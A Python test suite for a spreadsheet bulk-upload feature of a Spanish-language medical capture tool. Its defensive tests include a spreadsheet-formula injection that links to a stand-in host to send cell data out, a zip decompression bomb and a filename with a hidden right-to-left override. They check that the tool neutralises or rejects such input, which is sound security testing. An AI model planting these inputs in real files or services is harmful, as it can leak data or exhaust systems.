"""Bulk capture from the Excel template: download, edit in a spreadsheet, upload, preview, apply."""

from __future__ import annotations

import datetime as dt
import io
import json
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from core.accounts import cuentas
from core.admin import integridad
from core.base import reloj
from core.base.errors import (
    AccesoDenegado,
    CapturaBloqueada,
    ErrorDominio,
    PlantillaEnConflicto,
    PlantillaInvalida,
    TransicionInvalida,
)
from core.capture import borradores, captura, plantilla
from core.capture.captura import FilaCaptura
from core.lifecycle import ciclo
from tests.conftest import ANIO, FIN, HOY, poblado

P = "Persona de prueba"
OOAD = "chihuahua"
HGZ6, HGZ35, PARRAL = "IL-CH-0001", "IL-CH-0002", "IL-CH-0003"
COL = {nombre: i + 1 for i, nombre in enumerate(plantilla.ENCABEZADOS)}  # openpyxl columns start at 1
UNIDAD, CLAVE, TIPO, CAUSA, AMBITO, EVENTOS, PACIENTES, VERSION = (
    COL[n]
    for n in (
        "Unidad Médica",
        "Clave de producto",
        "Excedente/Faltante",
        "Causa Principal",
        "Ambulatorio/Hospitalario",
        "Eventos Mensuales",
        "Pacientes Mensuales",
        "Versión (no modificar)",
    )
)


def _preparar(store):
    c = cuentas.obtener(store, OOAD)
    ciclo.declarar(store, c, P, ANIO, "SI")
    captura.guardar(
        store,
        c,
        P,
        ANIO,
        HGZ6,
        [
            FilaCaptura("47.01", exc_pacientes=5),
            FilaCaptura("39.95", fal_causa="Falta de Equipo", fal_pacientes=3, fal_eventos=9),
        ],
    )
    captura.guardar(store, c, P, ANIO, HGZ35, [FilaCaptura("51.23", exc_pacientes=10, exc_eventos=12)])
    return c


@pytest.fixture
def capturista(store):
    """The OOAD's capturista, with three saved lines, on a store of its own (tests that write)."""
    return _preparar(store)


@pytest.fixture(scope="module")
def _compartida():
    reloj.fijar(HOY)
    s = poblado()
    c = _preparar(s)
    yield s, c
    s.close()


@pytest.fixture
def base(_compartida):
    """The same, shared by the tests whose uploads are refused (they check that nothing was written)."""
    return _compartida


# -- helpers ---------------------------------------------------------------------------------------
def _libro(store, c):
    return load_workbook(io.BytesIO(plantilla.plantilla(store, c, ANIO, OOAD)))


def _bytes(libro) -> bytes:
    salida = io.BytesIO()
    libro.save(salida)
    return salida.getvalue()


def _fila(hoja, unidad: str, producto: str) -> int:
    for r in range(2, hoja.max_row + 1):
        if f"({unidad})" in str(hoja.cell(r, UNIDAD).value or "") and hoja.cell(r, CLAVE).value == producto:
            return r
    raise AssertionError(f"{unidad} {producto} no está en la plantilla")


def _primera_vacia(hoja) -> int:
    return next(r for r in range(2, hoja.max_row + 2) if hoja.cell(r, UNIDAD).value is None)


def _escribir(hoja, r: int, unidad, producto, tipo, causa=None, ambito=None, eventos=None, pacientes=None):
    for col, v in (
        (UNIDAD, unidad),
        (CLAVE, producto),
        (TIPO, tipo),
        (CAUSA, causa),
        (AMBITO, ambito),
        (EVENTOS, eventos),
        (PACIENTES, pacientes),
    ):
        hoja.cell(r, col).value = v


def _lineas(store):
    return store.filas(
        "SELECT unidad, producto, tipo, ambito, causa, pacientes, eventos FROM linea ORDER BY unidad, producto"
    )


def _huella(store):
    return _lineas(store), store.valor("SELECT count(*) FROM auditoria")


def _leer(store, c, libro, nombre="plantilla.xlsx", **kw):
    return plantilla.leer(store, c, ANIO, OOAD, _bytes(libro), nombre, **kw)


def _invalida(store, c, datos: bytes, nombre="plantilla.xlsx") -> PlantillaInvalida:
    antes = _huella(store)
    with pytest.raises(PlantillaInvalida) as exc:
        plantilla.leer(store, c, ANIO, OOAD, datos, nombre)
    assert _huella(store) == antes
    assert str(exc.value).startswith("No se guardó nada")
    return exc.value


# -- the download ----------------------------------------------------------------------------------
def test_la_plantilla_trae_las_lineas_las_listas_y_las_hojas_de_consulta(base):
    store, capturista = base
    libro = _libro(store, capturista)
    assert libro.sheetnames == ["Líneas", "Unidades", "Productos", "Instrucciones", "control"]
    assert libro["control"].sheet_state == "veryHidden"
    hoja = libro["Líneas"]
    assert [c.value for c in hoja[1]] == list(plantilla.ENCABEZADOS)
    assert hoja.column_dimensions["I"].hidden  # the version column
    r = _fila(hoja, HGZ6, "39.95")
    assert [hoja.cell(r, c).value for c in (TIPO, CAUSA, AMBITO, EVENTOS, PACIENTES, VERSION)] == [
        "Faltante",
        "Falta de Equipo",
        "Ambulatorio",
        9,
        3,
        1,
    ]
    assert hoja.cell(r, UNIDAD).value == "HGZ 6, Ciudad Juárez (IL-CH-0001)"
    assert hoja.cell(r, 3).value.startswith("=IFERROR(VLOOKUP(")  # the name, for people
    assert sum(1 for r in range(2, hoja.max_row + 1) if hoja.cell(r, UNIDAD).value) == 3
    listas = {str(v.sqref).split(":")[0]: v for v in hoja.data_validations.dataValidation}
    assert listas["A2"].formula1 == "Unidades!$A$2:$A$5"
    assert listas["D2"].formula1 == '"Excedente,Faltante"'
    assert "Falta de Personal" in listas["E2"].formula1
    assert listas["F2"].formula1 == '"Ambulatorio,Hospitalario"'
    unidades = [r[1] for r in libro["Unidades"].iter_rows(min_row=2, values_only=True)]
    assert unidades == [HGZ35, HGZ6, PARRAL, "IL-CH-0004"] or sorted(unidades) == sorted(
        [HGZ6, HGZ35, PARRAL, "IL-CH-0004"]
    )  # only its own units
    productos = list(libro["Productos"].iter_rows(min_row=2, values_only=True))
    assert len(productos) == store.valor("SELECT count(*) FROM producto WHERE activo")
    assert ("39.95", "Hemodiálisis", "Hemodiálisis", "Hemodiálisis", "Ambulatorio") in productos
    assert ("47.01", "Apendicectomía laparoscópica", "Cirugía", "Cirugía General", "Hospitalario") in productos


def test_la_plantilla_neutraliza_los_textos_y_vuelve_igual(store, capturista):
    """A unit or product name that a spreadsheet would run as a formula is written as text and read back."""
    malicioso = '=HYPERLINK("http://x.invalid/?d="&A1,"ver")'
    store.filas("UPDATE unidad SET nombre = ? WHERE clave = ?", [malicioso, HGZ6])
    store.filas("UPDATE producto SET nombre = ? WHERE clave = '47.01'", ["@SUM(1+1)"])
    datos = plantilla.plantilla(store, capturista, ANIO, OOAD)
    libro = load_workbook(io.BytesIO(datos))
    hoja = libro["Líneas"]
    r = _fila(hoja, HGZ6, "47.01")
    celda = hoja.cell(r, UNIDAD)
    assert celda.data_type == "s" and celda.value == f"'{malicioso} ({HGZ6})"
    nombres = {f[0]: f for f in libro["Unidades"].iter_rows(min_row=2, values_only=True)}
    assert nombres[f"'{malicioso} ({HGZ6})"][2] == f"'{malicioso}"
    productos = {f[0]: f[1] for f in libro["Productos"].iter_rows(min_row=2, values_only=True)}
    assert productos["47.01"] == "'@SUM(1+1)"
    vista = plantilla.leer(store, capturista, ANIO, OOAD, datos, "p.xlsx")
    assert (vista.cambios, vista.conflictos, vista.sin_cambio) == ((), (), 3)


# -- the round trip --------------------------------------------------------------------------------
def test_ida_y_vuelta_cambia_agrega_y_elimina(store, capturista):
    libro = _libro(store, capturista)
    hoja = libro["Líneas"]
    hoja.cell(_fila(hoja, HGZ6, "47.01"), PACIENTES).value = "2,989"  # as typed, grouped by thousands
    hoja.cell(_fila(hoja, HGZ6, "47.01"), EVENTOS).value = 3000  # a numeric cell, whole
    nueva = _primera_vacia(hoja)
    _escribir(hoja, nueva, PARRAL, "LAB-0001", "faltante", "falta de insumos", None, "40", 20.0)
    hoja.delete_rows(_fila(hoja, HGZ35, "51.23"))
    esperado = [
        (HGZ6, "39.95", "Faltante", "Ambulatorio", "Falta de Equipo", 3, 9),
        (HGZ6, "47.01", "Excedente", "Hospitalario", None, 2989, 3000),
        (PARRAL, "LAB-0001", "Faltante", "Ambulatorio", "Falta de Insumos", 20, 40),
    ]
    auditoria_antes = store.valor("SELECT count(*) FROM auditoria")

    vista = _leer(store, capturista, libro, persona=P)
    assert [(c.accion, c.unidad, c.producto) for c in vista.nuevas] == [("nueva", PARRAL, "LAB-0001")]
    assert [(c.accion, c.unidad, c.producto) for c in vista.modificadas] == [("modificada", HGZ6, "47.01")]
    assert [(c.accion, c.unidad, c.producto, c.fila) for c in vista.eliminadas] == [
        ("se eliminará", HGZ35, "51.23", None)
    ]
    assert (vista.sin_cambio, vista.conflictos, vista.motivo(True)) == (1, (), None)
    assert store.valor("SELECT count(*) FROM auditoria") == auditoria_antes  # the preview writes nothing
    por_unidad = vista.por_unidad().set_index("Clave")
    assert por_unidad.loc[HGZ35, "Se eliminarán"] == 1 and por_unidad.loc[PARRAL, "Nuevas"] == 1
    tabla = vista.tabla()
    assert set(tabla["Cambio"]) == {"nueva", "modificada", "se eliminará"}
    assert "2,989 pacientes" in tabla.loc[tabla["Clave de producto"] == "47.01", "Después"].item()
    assert "Nuevas: 1" in vista.resumen()

    res = plantilla.aplicar(store, capturista, P, ANIO, OOAD, vista, eliminar=True)
    assert (res.insertadas, res.actualizadas, res.eliminadas, res.unidades) == (1, 1, 1, 3)
    assert _lineas(store) == esperado
    # The same audit rows as a Paso 6 save, one per line, plus one for the upload.
    acciones = store.filas(
        "SELECT accion, unidad, objeto, persona FROM auditoria WHERE id > (SELECT max(id) - 4 FROM auditoria)"
        " ORDER BY id"
    )
    assert sorted(a[:3] for a in acciones[:3]) == sorted(
        [("línea creada", PARRAL, "LAB-0001"), ("línea modificada", HGZ6, "47.01"), ("línea eliminada", HGZ35, "51.23")]
    )
    assert acciones[3][0] == "plantilla de captura aplicada" and {a[3] for a in acciones} == {P}
    creada = store.fila(
        "SELECT antes, despues, cuenta, anio, ooad FROM auditoria WHERE accion = 'línea creada' AND objeto = 'LAB-0001'"
    )
    despues = {"ambito": "Ambulatorio", "causa": "Falta de Insumos", "eventos": 40, "pacientes": 20, "tipo": "Faltante"}
    assert creada == (None, json.dumps(despues, ensure_ascii=False, sort_keys=True), OOAD, ANIO, OOAD)
    assert integridad.revisar(store).hallazgos == ()
    # A new download shows what was saved, and uploading it back changes nothing.
    otra = _libro(store, capturista)
    assert _leer(store, capturista, otra).cambios == ()
    assert store.valor("SELECT version FROM linea WHERE unidad = ? AND producto = '47.01'", [HGZ6]) == 2


def test_las_lineas_ausentes_se_conservan_sin_confirmar(store, capturista):
    libro = _libro(store, capturista)
    hoja = libro["Líneas"]
    r = _fila(hoja, HGZ6, "47.01")  # Excedente to Faltante: causa from NULL to a value, eventos added
    hoja.cell(r, TIPO).value, hoja.cell(r, CAUSA).value, hoja.cell(r, EVENTOS).value = (
        "Faltante",
        "Falta de Personal",
        8,
    )
    r = _fila(hoja, HGZ6, "39.95")  # Faltante to Excedente: causa and eventos back to NULL
    hoja.cell(r, TIPO).value, hoja.cell(r, CAUSA).value, hoja.cell(r, EVENTOS).value = "Excedente", None, None
    vaciada = _fila(hoja, HGZ35, "51.23")
    for col in range(1, 10):  # a row emptied instead of deleted: the line is absent too
        hoja.cell(vaciada, col).value = None
    vista = _leer(store, capturista, libro)
    assert [c.producto for c in vista.eliminadas] == ["51.23"]
    res = plantilla.aplicar(store, capturista, P, ANIO, OOAD, vista)  # removals need eliminar=True
    assert (res.actualizadas, res.eliminadas, res.conservadas) == (2, 0, 1)
    assert "Se conservaron 1" in res.describir()
    assert _lineas(store) == [
        (HGZ6, "39.95", "Excedente", "Ambulatorio", None, 3, None),
        (HGZ6, "47.01", "Faltante", "Hospitalario", "Falta de Personal", 5, 8),
        (HGZ35, "51.23", "Excedente", "Hospitalario", None, 10, 12),
    ]
    assert integridad.revisar(store).hallazgos == ()


def test_sin_cambios_no_hay_nada_que_aplicar(base):
    store, capturista = base
    vista = _leer(store, capturista, _libro(store, capturista))
    assert vista.motivo(True) == "No hay cambios que guardar: el archivo coincide con lo guardado."
    with pytest.raises(ErrorDominio, match="No hay cambios"):
        plantilla.aplicar(store, capturista, P, ANIO, OOAD, vista, eliminar=True)


def test_las_unidades_con_borradores_de_otras_personas_se_nombran(store, capturista):
    borradores.guardar(store, capturista, "Otra persona", ANIO, HGZ6, {"47.09": {"exc_pacientes": "4"}})
    borradores.guardar(store, capturista, P, ANIO, HGZ6, {"47.09": {"exc_pacientes": "5"}})
    libro = _libro(store, capturista)
    hoja = libro["Líneas"]
    hoja.cell(_fila(hoja, HGZ6, "47.01"), PACIENTES).value = 8
    vista = _leer(store, capturista, libro, persona=P)
    assert [(b.unidad, b.persona, b.productos) for b in vista.borradores] == [(HGZ6, "Otra persona", 1)]
    assert vista.por_unidad().set_index("Clave").loc[HGZ6, "Cambios sin guardar de otras personas"] == (
        "Otra persona (1)"
    )


# -- one problem per rule, named by row and column ------------------------------------------------
# (rule, unit, product, kind, cause, ámbito, events, patients, version) of a new row; None for the unit
# means the edit is on a downloaded row (see the test).
NUEVAS = [
    ("coma decimal", PARRAL, "47.01", "Excedente", None, None, None, "1,5", None),
    ("decimal", PARRAL, "47.09", "Excedente", None, None, None, 2.5, None),
    ("cero", PARRAL, "51.23", "Excedente", None, None, None, 0, None),
    ("máximo", PARRAL, "53.00", "Excedente", None, None, None, 100_001, None),
    ("máximo en texto", PARRAL, "13.41", "Excedente", None, None, None, "100,001", None),
    ("causa en Excedente", PARRAL, "14.74", "Excedente", "Falta de Equipo", None, None, 3, None),
    ("producto desconocido", PARRAL, "99.99", "Excedente", None, None, None, 3, None),
    ("unidad de otra OOAD", "IL-QR-0001", "47.09", "Excedente", None, None, None, 3, None),
    ("duplicado", f"HGZ 6, Ciudad Juárez ({HGZ6})", "47.01", "Excedente", None, None, None, 3, None),
    ("Faltante sin causa", PARRAL, "39.95", "Faltante", None, None, None, 3, None),
    ("tipo inválido", PARRAL, "HD-0001", "Sobrante", None, None, None, 3, None),
    ("sin tipo", PARRAL, "LAB-0001", None, None, None, None, 3, None),
    ("fórmula", PARRAL, "LAB-0002", "Excedente", None, None, None, '=HYPERLINK("http://x.invalid","5")', None),
    ("clave como número", PARRAL, 53.0, "Excedente", None, None, None, 3, None),
    ("versión alterada", "IL-CH-0004", "47.01", "Excedente", None, None, None, 3, "uno"),
    ("unidad desconocida", "HGZ 99", "47.01", "Excedente", None, None, None, 3, None),
    ("causa inválida", "IL-CH-0004", "39.95", "Faltante", "Falta de Ganas", None, None, 3, None),
]
REGLAS = {
    "texto": ("Pacientes Mensuales", "«abc» no es un número válido"),
    "eventos menores": ("Eventos Mensuales", "no pueden ser menos que los pacientes"),
    "ámbito inválido": ("Ambulatorio/Hospitalario", "debe ser «Ambulatorio» u «Hospitalario»"),
    "coma decimal": ("Pacientes Mensuales", "«1,5» no es un número válido"),
    "decimal": ("Pacientes Mensuales", "sin decimales (2.5)"),
    "cero": ("Pacientes Mensuales", "debe ser al menos 1"),
    "máximo": ("Pacientes Mensuales", "excede el máximo mensual permitido de 100,000"),
    "máximo en texto": ("Pacientes Mensuales", "excede el máximo"),
    "causa en Excedente": ("Causa Principal", "el Excedente no lleva causa principal"),
    "producto desconocido": ("Clave de producto", "«99.99» no existe en el catálogo vigente"),
    "unidad de otra OOAD": ("Unidad Médica", "es de otra OOAD/UMAE (Quintana Roo)"),
    "duplicado": ("Clave de producto", "ya aparece para la unidad IL-CH-0001 en la fila 2"),
    "Faltante sin causa": ("Causa Principal", "el Faltante requiere la causa principal"),
    "tipo inválido": ("Excedente/Faltante", "«Sobrante» no es válido"),
    "sin tipo": ("Excedente/Faltante", "elija Excedente o Faltante"),
    "fórmula": ("Pacientes Mensuales", "la celda tiene una fórmula («=HYPERLINK("),
    "clave como número": ("Clave de producto", "guardada como número"),
    "versión alterada": ("Versión (no modificar)", "columna de control oculta"),
    "unidad desconocida": ("Unidad Médica", "«HGZ 99» no es una unidad médica de su OOAD/UMAE"),
    "causa inválida": ("Causa Principal", "causa principal «Falta de Ganas» no válida"),
}


def test_cada_regla_se_reporta_con_su_fila_y_columna_todas_juntas(base):
    store, c = base
    libro = _libro(store, c)
    hoja = libro["Líneas"]
    filas = {
        "texto": _fila(hoja, HGZ6, "47.01"),
        "ámbito inválido": _fila(hoja, HGZ6, "39.95"),
        "eventos menores": _fila(hoja, HGZ35, "51.23"),
    }
    hoja.cell(filas["texto"], PACIENTES).value = "abc"
    hoja.cell(filas["ámbito inválido"], AMBITO).value = "Domiciliario"
    hoja.cell(filas["eventos menores"], EVENTOS).value = 2
    for regla, unidad, producto, tipo, causa, ambito, eventos, pacientes, version in NUEVAS:
        filas[regla] = r = _primera_vacia(hoja)
        _escribir(hoja, r, unidad, producto, tipo, causa, ambito, eventos, pacientes)
        hoja.cell(r, VERSION).value = version
    error = _invalida(store, c, _bytes(libro))
    assert f"{len(REGLAS)} problemas" in str(error)
    for regla, (columna, texto) in REGLAS.items():
        hallados = [m for f, col, m in error.problemas if f == filas[regla] and col == columna]
        assert any(texto in m for m in hallados), (regla, hallados, error.problemas)
        assert f"Fila {filas[regla]:,}, columna «{columna}»: " in str(error)
    assert len(error.problemas) == len(REGLAS)  # one per rule, nothing reported twice


def test_los_mensajes_son_los_de_la_rejilla(base):
    store, c = base
    libro = _libro(store, c)
    hoja = libro["Líneas"]
    hoja.cell(2, PACIENTES).value = "1,5"
    hoja.cell(3, EVENTOS).value = "1e3"
    error = _invalida(store, c, _bytes(libro))
    rejilla = captura.validar_fila(
        FilaCaptura("47.01", exc_pacientes="1,5"), "Apendicectomía laparoscópica", "Hospitalario"
    )[1]
    rejilla += captura.validar_fila(
        FilaCaptura("39.95", fal_causa="Falta de Equipo", fal_pacientes=3, fal_eventos="1e3"),
        "Hemodiálisis",
        "Ambulatorio",
    )[1]
    assert [m for _, _, m in error.problemas] == rejilla
    assert [(f, col) for f, col, _ in error.problemas] == [(2, "Pacientes Mensuales"), (3, "Eventos Mensuales")]


def test_cifras_enteras_en_celdas_de_numero_o_de_texto_se_aceptan(base):
    store, c = base
    libro = _libro(store, c)
    hoja = libro["Líneas"]
    hoja.cell(2, PACIENTES).value = 7.0  # a whole number Excel keeps as a float
    hoja.cell(3, EVENTOS).value = " 2,989 "
    _escribir(hoja, _primera_vacia(hoja), "il-ch-0004", "lab-0003", "Excedente", pacientes="007")
    vista = _leer(store, c, libro)
    assert [(x.producto, x.despues["pacientes"], x.despues["eventos"]) for x in vista.cambios] == [
        ("47.01", 7, None),
        ("39.95", 3, 2989),
        ("LAB-0003", 7, None),
    ]


# -- conflicts -------------------------------------------------------------------------------------
def test_una_linea_cambiada_despues_de_la_descarga_rechaza_la_subida(store, capturista):
    libro = _libro(store, capturista)
    hoja = libro["Líneas"]
    hoja.cell(_fila(hoja, HGZ6, "47.01"), PACIENTES).value = 50
    hoja.cell(_fila(hoja, HGZ35, "51.23"), PACIENTES).value = 11
    # Someone saves the same product from the grid after the download.
    captura.guardar(store, capturista, "Otra persona", ANIO, HGZ6, [FilaCaptura("47.01", version=1, exc_pacientes=9)])
    antes = _huella(store)
    vista = _leer(store, capturista, libro)
    assert [(c.unidad, c.producto, c.fila) for c in vista.conflictos] == [(HGZ6, "47.01", 2)]
    assert "modificada por Otra persona" in vista.conflictos[0].detalle
    assert vista.motivo(True).startswith("No se guardó nada: estas líneas cambiaron")
    with pytest.raises(PlantillaEnConflicto) as exc:
        plantilla.aplicar(store, capturista, P, ANIO, OOAD, vista, eliminar=True)
    assert "HGZ 6, Ciudad Juárez (IL-CH-0001) · producto 47.01 «Apendicectomía laparoscópica»" in str(exc.value)
    assert _huella(store) == antes  # the other unit's change was not written either


def test_un_cambio_entre_la_vista_previa_y_aplicar_la_rechaza(store, capturista):
    libro = _libro(store, capturista)
    hoja = libro["Líneas"]
    hoja.cell(_fila(hoja, HGZ35, "51.23"), PACIENTES).value = 11
    vista = _leer(store, capturista, libro)
    assert vista.conflictos == ()
    captura.guardar(store, capturista, "Otra persona", ANIO, HGZ35, [FilaCaptura("51.23", version=1, exc_pacientes=12)])
    antes = _huella(store)
    with pytest.raises(PlantillaEnConflicto, match="51.23"):
        plantilla.aplicar(store, capturista, P, ANIO, OOAD, vista, eliminar=True)
    assert _huella(store) == antes


def test_una_linea_creada_despues_de_la_descarga_no_se_elimina(store, capturista):
    """Absent from the file because it did not exist at download: a conflict, never «se eliminará»."""
    libro = _libro(store, capturista)
    captura.guardar(store, capturista, "Otra persona", ANIO, PARRAL, [FilaCaptura("47.09", exc_pacientes=4)])
    vista = _leer(store, capturista, libro)
    assert vista.eliminadas == []
    assert [(c.unidad, c.producto, c.fila) for c in vista.conflictos] == [(PARRAL, "47.09", None)]
    assert "creada por Otra persona" in vista.conflictos[0].describir()
    assert "(no está en su archivo)" in vista.conflictos[0].describir()


def test_la_plantilla_de_otra_ooad_o_periodo_se_rechaza(base):
    store, capturista = base
    qroo = cuentas.obtener(store, "quintana-roo")
    datos = plantilla.plantilla(store, qroo, ANIO, "quintana-roo")
    error = _invalida(store, capturista, datos)
    assert "es la plantilla de otra OOAD/UMAE o de otro periodo" in str(error)


# -- the lifecycle ---------------------------------------------------------------------------------
def _vista_con_un_cambio(store, c):
    libro = _libro(store, c)
    hoja = libro["Líneas"]
    hoja.cell(_fila(hoja, HGZ6, "47.01"), PACIENTES).value = 6
    return libro, _leer(store, c, libro)


def test_finalizado_no_se_sube_ni_se_aplica(store, capturista):
    libro, vista = _vista_con_un_cambio(store, capturista)
    ciclo.finalizar(store, capturista, P, ANIO)
    antes = _huella(store)
    with pytest.raises(CapturaBloqueada, match="finalizó"):
        plantilla.aplicar(store, capturista, P, ANIO, OOAD, vista, eliminar=True)
    with pytest.raises(CapturaBloqueada, match="finalizó"):
        _leer(store, capturista, libro)
    assert _huella(store) == antes


def test_fuera_de_la_ventana_no_se_aplica(store, capturista):
    _libro_, vista = _vista_con_un_cambio(store, capturista)
    reloj.fijar(dt.datetime.combine(FIN + dt.timedelta(days=1), dt.time(9)))
    antes = _huella(store)
    with pytest.raises(CapturaBloqueada, match="cerró"):
        plantilla.aplicar(store, capturista, P, ANIO, OOAD, vista, eliminar=True)
    assert _huella(store) == antes


def test_con_respuesta_no_no_se_aplica(store, capturista):
    _libro_, vista = _vista_con_un_cambio(store, capturista)
    ciclo.declarar(store, capturista, P, ANIO, "NO", lineas_a_borrar=3)
    antes = _huella(store)
    with pytest.raises(TransicionInvalida, match="conteste SI"):
        plantilla.aplicar(store, capturista, P, ANIO, OOAD, vista, eliminar=True)
    assert _huella(store) == antes


# -- permissions -----------------------------------------------------------------------------------
def test_permisos(base):
    store, capturista = base
    libro, vista = _vista_con_un_cambio(store, capturista)
    datos = _bytes(libro)
    otra, analista = cuentas.obtener(store, "quintana-roo"), cuentas.obtener(store, "analista")
    antes = _huella(store)
    with pytest.raises(AccesoDenegado):
        plantilla.plantilla(store, otra, ANIO, OOAD)
    assert plantilla.plantilla(store, analista, ANIO, OOAD)[:2] == b"PK"  # the division reads every capture
    for quien in (otra, analista, None):
        with pytest.raises(AccesoDenegado):
            plantilla.leer(store, quien, ANIO, OOAD, datos, "p.xlsx")
        with pytest.raises(AccesoDenegado):
            plantilla.aplicar(store, quien, P, ANIO, OOAD, vista, eliminar=True)
    assert _huella(store) == antes
    with pytest.raises(ErrorDominio, match="otra OOAD/UMAE o de otro periodo"):
        plantilla.aplicar(store, otra, P, ANIO, "quintana-roo", vista, eliminar=True)


# -- hostile and wrong files -----------------------------------------------------------------------
def _zip(partes: dict[str, bytes]) -> bytes:
    salida = io.BytesIO()
    with zipfile.ZipFile(salida, "w", zipfile.ZIP_DEFLATED) as z:
        for nombre, contenido in partes.items():
            z.writestr(nombre, contenido)
    return salida.getvalue()


@pytest.mark.parametrize(
    "datos,texto",
    [
        (b"", "está vacío"),
        (b"Unidad,Clave\nHGZ,47.01\n", "no es un libro de Excel (.xlsx)"),
        (b"%PDF-1.7\n%...", "no es un libro de Excel (.xlsx)"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "libro de Excel antiguo (.xls)"),
        (b"PK\x03\x04" + b"\x00" * 200, "dañado"),
        (b"PK\x03\x04basura-que-no-es-zip" * 50, "dañado"),
    ],
    ids=["vacío", "csv", "pdf", "xls", "zip-roto", "basura"],
)
def test_un_archivo_que_no_es_xlsx_se_rechaza_en_espanol(base, datos, texto):
    store, capturista = base
    assert texto in str(_invalida(store, capturista, datos))


def test_un_zip_que_no_es_libro_de_excel_se_rechaza(base):
    store, capturista = base
    assert "no es un libro de Excel .xlsx válido" in str(
        _invalida(store, capturista, _zip({"hola.txt": b"hola"}), "p.xlsx")
    )


def test_una_bomba_de_descompresion_se_rechaza_sin_abrirla(base):
    store, capturista = base
    bomba = _zip({"[Content_Types].xml": b"<x/>", "xl/worksheets/sheet1.xml": b" " * (41 * 1024 * 1024)})
    assert len(bomba) < 100_000
    assert "descomprimido ocupa 41 MB (máximo 40 MB)" in str(_invalida(store, capturista, bomba))


def test_un_archivo_demasiado_grande_se_rechaza(base, monkeypatch):
    store, capturista = base
    datos = plantilla.plantilla(store, capturista, ANIO, OOAD)
    monkeypatch.setattr(plantilla, "TAMANO_MAXIMO", len(datos) - 1)
    assert "el máximo es" in str(_invalida(store, capturista, datos))


def test_demasiadas_filas_se_rechazan(base, monkeypatch):
    store, capturista = base
    monkeypatch.setattr(plantilla, "FILAS_MAXIMAS", 4)
    libro = _libro(store, capturista)
    hoja = libro["Líneas"]
    for i, p in enumerate(("47.09", "53.00")):
        _escribir(hoja, _primera_vacia(hoja), PARRAL, p, "Excedente", pacientes=i + 1)
    assert "tiene más de 4 líneas, el máximo por archivo" in str(_invalida(store, capturista, _bytes(libro)))


def test_datos_despues_de_la_ultima_fila_se_rechazan(base, monkeypatch):
    store, capturista = base
    monkeypatch.setattr(plantilla, "ULTIMA_FILA", 400)
    libro = _libro(store, capturista)
    _escribir(libro["Líneas"], 401, PARRAL, "47.09", "Excedente", pacientes=1)
    assert "hay datos después de la fila 400" in str(_invalida(store, capturista, _bytes(libro)))


def test_encabezados_cambiados_se_rechazan(base):
    store, capturista = base
    libro = _libro(store, capturista)
    libro["Líneas"].cell(1, PACIENTES).value = "Pacientes"
    error = _invalida(store, capturista, _bytes(libro))
    assert "columna 8: se esperaba «Pacientes Mensuales» y dice «Pacientes»" in str(error)


def test_un_libro_sin_la_hoja_de_lineas_o_de_control_se_rechaza(base):
    store, capturista = base
    libro = Workbook()
    libro.active.title = "Hoja1"
    libro.active.append(list(plantilla.ENCABEZADOS))
    assert "no tiene la hoja «Líneas»" in str(_invalida(store, capturista, _bytes(libro)))
    libro = _libro(store, capturista)
    del libro["control"]
    assert "no tiene la hoja de control (oculta)" in str(_invalida(store, capturista, _bytes(libro)))


def test_la_hoja_de_control_alterada_se_rechaza(base):
    store, capturista = base
    libro = _libro(store, capturista)
    libro["control"]["B4"] = "999999999"  # generacion: a state the database never had
    assert "ya no existe" in str(_invalida(store, capturista, _bytes(libro)))
    libro["control"]["B1"] = "otra cosa"
    assert "no es una plantilla de captura de esta herramienta" in str(_invalida(store, capturista, _bytes(libro)))


def test_el_nombre_del_archivo_se_muestra_sin_caracteres_invisibles(base):
    store, capturista = base
    error = _invalida(store, capturista, b"hola", "C:\\carpeta\\mal\u202enombre.xlsx")
    assert "«malU+202Enombre.xlsx»" in str(error)
